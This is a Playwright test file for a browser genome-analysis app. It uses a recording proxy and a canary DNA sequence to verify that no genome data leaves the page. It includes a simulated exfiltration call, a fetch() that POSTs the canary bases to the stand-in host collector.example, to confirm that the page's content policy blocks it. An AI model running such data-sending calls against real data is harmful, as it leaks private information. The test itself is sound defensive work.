import { createServer, request as forward, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect } from '@playwright/test';
import { fasta, Studio, someBases, TINY, test } from './studio.ts';

test.use({ serviceWorkers: 'allow' });

/** Bases and a word that stand nowhere but in the test's genome. */
const CANARY = 'ACGTTGCAAGGCCTTATTCGGATCCGATATTCCGGAACTG';
const WORD = 'quetzalcoatlus';
const traces = [
  CANARY,
  CANARY.toLowerCase(),
  WORD,
  Buffer.from(CANARY).toString('base64').slice(0, 48),
  Buffer.from(CANARY).toString('hex'),
];

/**
 * A proxy between the browser and everything, the studio's own host too: keeps all it is told, and passes on only what
 * is for that host.
 */
class Sink {
  private readonly heard: Buffer[] = [];
  private readonly server: Server;

  constructor(studio: string) {
    this.server = createServer((request, response) => {
      this.hear(request);
      const chunks: Buffer[] = [];
      request.on('data', (chunk: Buffer) => chunks.push(chunk));
      request.on('end', () => {
        this.heard.push(...chunks);
        if (!request.url?.startsWith(studio)) {
          response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end();
          return;
        }
        const onward = forward(request.url, { method: request.method, headers: request.headers }, (answer) => {
          response.writeHead(answer.statusCode ?? 502, answer.headers);
          answer.pipe(response);
        });
        onward.end(Buffer.concat(chunks));
      });
    });
    this.server.on('connect', (request, socket) => {
      this.hear(request);
      socket.on('data', (chunk: Buffer) => this.heard.push(chunk));
      socket.write('HTTP/1.1 200 Connection Established\r\n\r\n');
    });
  }

  private hear(request: IncomingMessage): void {
    this.heard.push(Buffer.from(`${request.method} ${request.url}\n${request.rawHeaders.join('\n')}\n`));
  }

  async open(): Promise<string> {
    await new Promise<void>((listening) => this.server.listen(0, '127.0.0.1', listening));
    return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  /** Everything it was told since it was last asked. */
  everything(): string {
    return Buffer.concat(this.heard.splice(0)).toString('latin1');
  }

  close(): void {
    this.server.close();
    this.server.closeAllConnections();
  }
}

test('not one base and not one word of a genome reaches a proxy that sees everything', async ({ browser, baseURL }) => {
  const sink = new Sink(baseURL!);
  const server = await sink.open();
  const context = await browser.newContext({ proxy: { server, bypass: '<-loopback>' }, baseURL });
  const page = await context.newPage();
  const studio = new Studio(page);
  await studio.open(TINY);
  await studio.chooseFiles(fasta('genome.fa', `>${WORD} a canary\n${someBases(3000)}${CANARY}${someBases(3000)}\n`));
  await studio.reach(['ready'], 30_000);
  await studio.startTraining();
  await studio.reach(['done'], 60_000);
  await page.getByRole('link', { name: 'Export' }).click();
  await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export report' }).click()]);
  const during = sink.everything();
  expect(during).toContain('GET ');
  for (const trace of traces) expect(during).not.toContain(trace);

  // What tries to tell is refused before it is a request.
  const tell = (bases: string) =>
    fetch(`http://collector.example/?bases=${bases}`, { mode: 'no-cors', method: 'POST', body: bases }).catch(
      () => undefined,
    );
  await page.evaluate(tell, CANARY);
  expect(sink.everything()).not.toContain(CANARY);
  expect(studio.complaints.filter((complaint) => !complaint.includes('collector.example'))).toEqual([]);
  await context.close();

  // Positive control: the same proxy hears the same words where no policy holds them back.
  const unguarded = await browser.newContext({
    proxy: { server, bypass: '<-loopback>' },
    baseURL,
    bypassCSP: true,
    serviceWorkers: 'block',
  });
  const elsewhere = await unguarded.newPage();
  await elsewhere.goto('/');
  await elsewhere.evaluate(tell, CANARY);
  expect(sink.everything()).toContain(CANARY);
  await unguarded.close();
  sink.close();
});
